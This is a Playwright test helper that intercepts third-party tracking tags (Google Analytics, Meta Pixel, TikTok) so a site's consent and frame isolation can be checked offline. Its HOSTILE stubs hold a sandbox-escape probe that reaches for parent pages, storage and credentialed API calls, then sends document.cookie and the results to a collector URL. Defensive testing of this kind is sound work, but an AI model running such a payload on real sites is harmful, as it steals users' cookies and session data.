import type { BrowserContext, Request } from '@playwright/test';
import type { TagName } from '../core/consent/tags.ts';

/** Google's tag, as far as it matters here: it marks the device and reports all it can see of the page. */
const GTAG = `(() => {
  const say = (call) => fetch('https://region1.google-analytics.com/g/collect?dl=' + encodeURIComponent(location.href), {
    method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify({ call: [...call], ...seen() }) });
  const seen = () => ({ href: location.href, title: document.title, referrer: document.referrer, text: document.body.innerText });
  document.cookie = '_ga=GA1.1.1.1; path=/; max-age=999';
  document.cookie = '_ga_TEST12345=GS1.1.1; path=/; max-age=999';
  dataLayer.forEach(say);
  dataLayer.push = (call) => { if (!window['ga-disable-G-TEST12345']) say(call); };
})()`;

const PIXEL = `(() => {
  const say = (call) => { new Image().src = 'https://www.facebook.com/tr/?dl=' + encodeURIComponent(location.href) + '&rl='
    + encodeURIComponent(document.referrer) + '&call=' + encodeURIComponent(JSON.stringify(call)); };
  document.cookie = '_fbp=fb.0.1.1; path=/; max-age=999';
  localStorage.setItem('lastExternalReferrer', 'empty');
  fbq.queue.forEach((call) => say([...call]));
  fbq.callMethod = (...call) => call[0] === 'consent' || say(call);
})()`;

/** TikTok's pixel replaces the list of calls by an object. */
const TIKTOK = `(() => {
  const say = (call) => { new Image().src = 'https://analytics.tiktok.com/api/v2/pixel?dl=' + encodeURIComponent(location.href)
    + '&call=' + encodeURIComponent(JSON.stringify(call)); };
  document.cookie = '_ttp=2Fabc; path=/; max-age=999';
  document.cookie = 'ttclid=' + new URLSearchParams(location.search).get('ttclid') + '; path=/; max-age=999';
  const { methods, ...queue } = ttq;
  Object.values(queue).filter(Array.isArray).forEach(say);
  ttq = Object.fromEntries(methods.map((name) => [name, (...call) => name === 'revokeConsent' || say([name, ...call])]));
})()`;

type Stubs = Readonly<Record<TagName, { readonly host: string; readonly code: string }>>;

const STUBS: Stubs = {
  ga4: { host: 'www.googletagmanager.com', code: GTAG },
  metaPixel: { host: 'connect.facebook.net', code: PIXEL },
  tiktokPixel: { host: 'analytics.tiktok.com', code: TIKTOK },
};

/** What code in the tags' page could try, with the name of each attempt that came through. */
async function attack(): Promise<readonly string[]> {
  const reached: string[] = [];
  /** An attempt fails by an error or by nothing. */
  const attempt = async (name: string, act: () => unknown) => {
    try {
      const found = await act();
      if (found !== undefined && found !== null && found !== '') reached.push(`${name}: ${String(found).slice(0, 100)}`);
    } catch {
      // The wall held.
    }
  };
  const soon = <T>(start: (done: (value?: T) => void) => void) =>
    new Promise<T | undefined>((done) => {
      start(done);
      setTimeout(done, 500);
    });
  for (const [name, other] of [
    ['parent', parent],
    ['top', top],
    ['opener', opener],
  ] as const) {
    await attempt(`${name}'s page`, () => other?.document.title);
    await attempt(`${name}'s address`, () => other?.location.href);
    await attempt(`${name}'s storage`, () => other?.localStorage.length);
    await attempt(`${name}'s fetch`, () => other?.fetch);
    await attempt(`${name}'s frames`, () =>
      other && other !== window && other.frames[0] !== window ? other.frames[0] : undefined,
    );
    await attempt(`${name} moved away`, () => {
      if (other && other !== window) other.location.href = '/imprint';
    });
  }
  await attempt('a new window', () => open('/manage'));
  await attempt('the frame around it', () => frameElement);
  await attempt('the first selfie', () =>
    soon((done) => {
      const request = indexedDB.open('photo');
      request.onsuccess = () => done('opened');
      request.onerror = () => done();
    }),
  );
  await attempt('caches', () => caches.keys());
  await attempt('a service worker', () => navigator.serviceWorker.register('/tags'));
  await attempt('a lock', () => soon((done) => void navigator.locks.request('a', () => done('held'))));
  await attempt('a channel', () =>
    soon((done) => {
      const channel = new BroadcastChannel('spy');
      channel.onmessage = ({ data }) => done(data);
    }),
  );
  for (const credentials of ['include', 'omit'] as const) {
    for (const path of ['/api/manage', '/api/configuration', '/api/operator/session', '/'])
      await attempt(`${path} (${credentials})`, async () => (await fetch(path, { credentials })).status);
    await attempt(`an answer it may not read (${credentials})`, async () => {
      const { type } = await fetch('/api/configuration', { mode: 'no-cors', credentials });
      return type;
    });
  }
  await attempt('a form', () =>
    soon((done) => {
      const form = Object.assign(document.createElement('form'), { action: '/api/leads', method: 'post' });
      document.body.append(form);
      form.submit();
      done();
    }),
  );
  await attempt('a frame of ours', () =>
    soon((done) => {
      const frame = Object.assign(document.createElement('iframe'), { src: '/quiz1' });
      frame.onload = () => {
        try {
          done(frame.contentDocument?.title);
        } catch {
          done();
        }
      };
      document.body.append(frame);
    }),
  );
  await attempt('a picture of ours', () =>
    soon((done) => {
      const picture = new Image();
      picture.onload = () => done('drawn');
      picture.onerror = () => done();
      picture.src = '/favicon.ico';
    }),
  );
  // Lies in the other direction: nobody listens.
  for (const lie of [{ report: { kind: 'subscribed', id: 'x', value: 1, currency: 'USD' } }, { stop: true }, 'hello'])
    parent.postMessage(lie, '*');
  await attempt('a message', () =>
    soon((done) => {
      addEventListener('message', ({ data }) => done(JSON.stringify(data)));
    }),
  );
  return reached;
}

/** Its answer goes where the policy lets it. */
function hostile(collector: string): string {
  return `(${attack})().then((reached) => {
    new Image().src = '${collector}?cookies=' + encodeURIComponent(document.cookie) + '&reached=' + encodeURIComponent(JSON.stringify(reached)); });`;
}

export const HOSTILE: Stubs = {
  ga4: { host: 'www.googletagmanager.com', code: hostile('https://www.googletagmanager.com/a') },
  metaPixel: { host: 'connect.facebook.net', code: hostile('https://www.facebook.com/tr/') },
  tiktokPixel: { host: 'analytics.tiktok.com', code: hostile('https://analytics.tiktok.com/api') },
};

/** Nothing leaves the machine; requests to other sites are recorded. */
export async function interceptThirdParties(context: BrowserContext, ours: string, stubs = STUBS) {
  const requests: Request[] = [];
  await context.route(
    (url) => url.origin !== ours && /^(https?|wss?):$/.test(url.protocol),
    async (route) => {
      requests.push(route.request());
      const { hostname } = new URL(route.request().url());
      const body = Object.values(stubs).find(({ host }) => host === hostname)?.code ?? '';
      await route.fulfill({ contentType: 'text/javascript', body });
    },
  );
  return {
    hosts: () => [...new Set(requests.map((request) => new URL(request.url()).hostname))].sort(),
    count: () => requests.length,
    /** Addresses, bodies and headers. */
    async sentText(): Promise<string> {
      const all = requests.map(async (request) =>
        [decodeURIComponent(request.url()), request.postData() ?? '', JSON.stringify(await request.allHeaders())].join('\n'),
      );
      return (await Promise.all(all)).join('\n');
    },
    /** What hostile code told its platform. */
    told: () =>
      requests
        .map((request) => new URL(request.url()))
        .filter(({ searchParams }) => searchParams.has('reached'))
        .map(({ hostname, searchParams }) => ({
          hostname,
          cookies: searchParams.get('cookies') ?? '',
          reached: JSON.parse(searchParams.get('reached') ?? ''),
        })),
    calls: (name: string) =>
      requests
        .flatMap((request) => [new URL(request.url()).searchParams.get('call'), request.postData()])
        .filter((text) => text?.includes(`"${name}"`))
        .map((text) => JSON.parse(text ?? '')),
  };
}

export type ThirdParties = Awaited<ReturnType<typeof interceptThirdParties>>;
